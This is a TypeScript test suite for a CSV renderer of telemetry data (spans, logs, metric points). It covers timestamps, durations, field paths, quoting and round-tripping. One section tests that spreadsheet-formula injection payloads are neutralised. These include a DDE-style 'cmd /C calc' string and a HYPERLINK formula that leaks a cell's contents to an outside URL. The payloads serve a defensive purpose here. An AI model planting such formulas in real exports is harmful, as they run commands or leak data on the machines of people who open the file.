import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { renderCsv } from "../../worker/query/render/csv.ts";
import { readFixture } from "../support/fixtures.ts";
import { transcode } from "../support/transcode.ts";

const HEADER =
  "received_at,time,event_type,service,name,level,status,duration_ms,value,trace_id,span_id,message";

function csvLines(events: readonly unknown[], fields: readonly string[] = []): readonly string[] {
  const { body } = renderCsv(
    events.map((event) => (typeof event === "string" ? event : JSON.stringify(event))),
    fields,
  );
  return body.split("\r\n");
}

/** One cell of one event. */
function cell(event: unknown, field: string): string {
  const [, row = "", end] = csvLines([event], [field]);
  expect(end).toBe("");
  return row;
}

function otlp(data: object): object {
  return { event_type: "span", data: { resource: {}, scope: {}, ...data } };
}

describe("the usual columns", () => {
  it("show a span, a log record, a data point and a native event", () => {
    const resource = { attributes: { "service.name": "shop" } };
    const ids = { trace_id: "0af7651916cd43dd8448eb211c80319c", span_id: "b7ad6b7169203331" };
    const span = {
      event_type: "span",
      data: {
        resource,
        scope: {},
        ...ids,
        name: "pay",
        start_time_unix_nano: "1767225600126456789",
        end_time_unix_nano: "1767225600130456790",
        status: { code: "error", message: 'card "declined", code=51' },
      },
      received_at: 1_764_000_000_000,
      batch_id: "b",
    };
    const log = {
      event_type: "log",
      data: {
        resource,
        scope: {},
        ...ids,
        observed_time_unix_nano: "1767225600000000001",
        event_name: "payment.failed",
        level: "error",
        body: { order: 7 },
      },
      received_at: 1_764_000_000_001,
    };
    const point = {
      event_type: "metric",
      data: {
        resource,
        scope: {},
        name: "orders",
        type: "sum",
        start_time_unix_nano: "1767225600000000000",
        time_unix_nano: "1767225660000000000",
        as_int: "9223372036854775807",
      },
      received_at: 1_764_000_000_002,
    };
    const native = {
      event_type: "error",
      data: { level: "warn", error_message: "timeout", duration_ms: 12.5, status: "failed" },
      service: "pryx",
      timestamp: 1_764_000_000_123,
      received_at: 1_764_000_000_003,
    };

    expect(csvLines([span, log, point, native])).toEqual([
      HEADER,
      '2025-11-24T16:00:00.000000000Z,2026-01-01T00:00:00.126456789Z,span,shop,pay,,error,4.000001,,0af7651916cd43dd8448eb211c80319c,b7ad6b7169203331,"card ""declined"", code=51"',
      '2025-11-24T16:00:00.001000000Z,2026-01-01T00:00:00.000000001Z,log,shop,payment.failed,error,,,,0af7651916cd43dd8448eb211c80319c,b7ad6b7169203331,"{""order"":7}"',
      "2025-11-24T16:00:00.002000000Z,2026-01-01T00:01:00.000000000Z,metric,shop,orders,,,,9223372036854775807,,,",
      "2025-11-24T16:00:00.003000000Z,2025-11-24T16:00:00.123000000Z,error,pryx,,warn,failed,12.5,,,,timeout",
      "",
    ]);
  });

  it.each([
    ["0", "0", "0"],
    ["1000000", "1", "-0.999999"],
    ["5", "1767225600000000005", "1767225600000"],
    ["0", "1500000", "1.5"],
    ["0", "10000000", "10"],
    ["0", "1", "0.000001"],
  ])("show how long it is from %s to %s ns: %s ms", (start, end, duration) => {
    const span = otlp({ start_time_unix_nano: start, end_time_unix_nano: end });

    expect(cell(span, "duration_ms")).toBe(duration);
  });

  it("show no duration of a span that has not ended", () => {
    expect(cell(otlp({ start_time_unix_nano: "5" }), "duration_ms")).toBe("");
  });

  it("show the latest time that 64 bits hold, and times that are none as they are", () => {
    expect(cell(otlp({ time_unix_nano: "18446744073709551615" }), "time")).toBe(
      "2554-07-21T23:34:33.709551615Z",
    );
    expect(cell({ event_type: "x", timestamp: "yesterday" }, "time")).toBe("yesterday");
    expect(cell({ event_type: "x", timestamp: 1e300 }, "time")).toBe("1e+300");
    expect(cell({ event_type: "x", timestamp: -1 }, "time")).toBe("1969-12-31T23:59:59.999000000Z");
  });

  it("leave damaged lines out and count them", () => {
    expect(renderCsv(["{", "", '{"event_type":"x"}', "[1]"], ["event_type"])).toEqual({
      body: "event_type\r\nx\r\n",
      skipped: 3,
    });
  });
});

describe("a field", () => {
  const span = otlp({
    name: "pay",
    resource: { attributes: { "service.name": "shop", "host.id": 7 }, schema_url: "u" },
    scope: { name: "lib" },
    attributes: { "http.route": "/a", http: { route: "/b", "status.code": 200 }, list: [1, "x"] },
    events: [{ name: "exception", attributes: { "exception.type": "E" } }],
  });

  it.each([
    ["attr.http.route", "/a"],
    ["attr.http.status.code", "200"],
    ["attr.list", '"[1,""x""]"'],
    ["attr.list.1", "x"],
    ["attr.name", ""],
    ["resource.host.id", "7"],
    ["resource.schema_url", ""],
    ["data.resource.schema_url", "u"],
    ["data.scope.name", "lib"],
    ["data.attributes.http.route", "/a"],
    ["data.events.0.attributes.exception.type", "E"],
    ["data.nothing.there", ""],
    ["event_type", "span"],
    ["", ""],
    [".", ""],
    ["data.", ""],
    ["data.attributes.constructor", ""],
  ])("%s is found where the path leads", (field, text) => {
    expect(cell(span, field)).toBe(text);
  });

  it("of a native event may be in its attributes, in its data or at the top", () => {
    const native = { event_type: "x", top: 1, data: { "a.b": 2, attributes: { c: 3 } } };

    expect(
      csvLines([native], ["top", "attr.a.b", "attr.c", "attr.top", "data.attributes.c"]),
    ).toEqual(["top,attr.a.b,attr.c,attr.top,data.attributes.c", "1,2,3,,3", ""]);
  });

  it("may be named twice, and by a name that needs quotes", () => {
    expect(csvLines([span], ["event_type", 'a"b', "event_type", "=1"])).toEqual([
      `event_type,"a""b",event_type,'=1`,
      "span,,span,",
      "",
    ]);
  });
});

describe("a value", () => {
  it.each([
    ["text", "text"],
    ["", ""],
    [" padded ", '" padded "'],
    ["a;b", '"a;b"'],
    ["a\nb", '"a\nb"'],
    [true, "true"],
    [-5, "-5"],
    [0.1, "0.1"],
    [null, ""],
    [{ int_value: "-9223372036854775808" }, "-9223372036854775808"],
    [{ double_value: 5 }, "5"],
    [{ double_value: "NaN" }, "NaN"],
    [{ bytes_value: "AAH+/w==" }, "AAH+/w=="],
    [{ kvlist_value: { int_value: "x" } }, '"{""int_value"":""x""}"'],
    [{ int_value: "1", more: 2 }, '"{""int_value"":""1"",""more"":2}"'],
    [[], "[]"],
    [{}, "{}"],
  ])("of an attribute, %j, is shown as %s", (value, text) => {
    expect(cell(otlp({ attributes: { key: value } }), "attr.key")).toBe(text);
  });

  it("of minus zero keeps its sign", () => {
    const line = '{"data":{"resource":{},"attributes":{"key":{"double_value":-0}}}}';

    expect(cell(line, "attr.key")).toBe("-0");
  });

  it("of a native event keeps every digit and is not taken for a typed one", () => {
    const line =
      '{"event_type":"x","data":{"n":12345678901234567890,"z":1.50,"m":{"int_value":"1"}}}';

    expect(csvLines([line], ["attr.n", "attr.z", "attr.m", "data"])[1]).toBe(
      '12345678901234567890,1.50,"{""int_value"":""1""}","{""n"":12345678901234567890,""z"":1.50,""m"":{""int_value"":""1""}}"',
    );
  });
});

describe("a native event that nests deeper than the stack", () => {
  it("is shown without the cell that holds it, not thrown over", () => {
    const levels = 1_000_000;
    const line = `{"event_type":"x","data":${"[".repeat(levels)}${"]".repeat(levels)}}`;

    expect(csvLines([line], ["event_type", "data"])).toEqual(["event_type,data", "x,", ""]);
  });
});

describe("text that a spreadsheet could run", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", '"\'\t=1"'],
    ["\r=1", '"\'\r=1"'],
    ["\n=1", '"\'\n=1"'],
    ["＝1", "'＝1"],
    ['=HYPERLINK("http://a/?"&A1,"x")', '"\'=HYPERLINK(""http://a/?""&A1,""x"")"'],
    ["-Infinity", "'-Infinity"],
    ["--5", "'--5"],
    ["-", "'-"],
  ])("is disarmed: %j", (text, shown) => {
    expect(cell(otlp({ name: text }), "name")).toBe(shown);
  });

  it.each(["-5", "-5.25", "-1e-7", "-9223372036854775808"])("is not a plain number: %s", (text) => {
    expect(cell(otlp({ name: text }), "name")).toBe(text);
  });
});

/** A reader of RFC 4180, character by character. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let value = "";
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text.charAt(at);
    if (isQuoted) {
      if (character !== '"') {
        value += character;
      } else if (text.charAt(at + 1) === '"') {
        value += '"';
        at += 1;
      } else {
        isQuoted = false;
      }
    } else if (character === '"') {
      if (value !== "") {
        throw new Error(`a quote inside of a cell, at ${at}`);
      }
      isQuoted = true;
    } else if (character === "," || character === "\r") {
      row.push(value);
      value = "";
      if (character === "\r") {
        if (text.charAt(at + 1) !== "\n") {
          throw new Error(`CR without LF, at ${at}`);
        }
        at += 1;
        rows.push(row);
        row = [];
      }
    } else {
      value += character;
    }
  }
  expect({ row, value, isQuoted }).toEqual({ row: [], value: "", isQuoted: false });
  return rows;
}

describe("any table", () => {
  it("gives each text back to a reader, guarded where it could be run", () => {
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.string({
        unit: fc.constantFrom('"', ",", "\r", "\n", "=", "-", "+", "'", ";", "1", "\t"),
      }),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { maxLength: 6 }), (pairs) => {
        const events = pairs.map(([name, body]) => JSON.stringify(otlp({ name, body })));

        const rows = parseCsv(renderCsv(events, ["name", "data.body"]).body);

        const guarded = pairs.map((pair) =>
          pair.map((value) =>
            "=+-@\t\r\n＝＋－＠".includes(value.slice(0, 1)) &&
            value !== "" &&
            !/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(value)
              ? `'${value}`
              : value,
          ),
        );
        expect(rows).toEqual([["name", "data.body"], ...guarded]);
      }),
    );
  });

  it.each(["traces_go_1.47.0.bin", "metrics_go_1.47.0.bin", "logs_go_0.23.0.bin"])(
    "of recorded telemetry has as many cells in each row as in the first: %s",
    (name) => {
      const { lines } = transcode(readFixture(name));

      const [head = [], ...rows] = parseCsv(renderCsv(lines, []).body);

      expect(head.join(",")).toBe(HEADER);
      expect(rows.map((row) => row.length)).toEqual(lines.map(() => head.length));
    },
  );
});
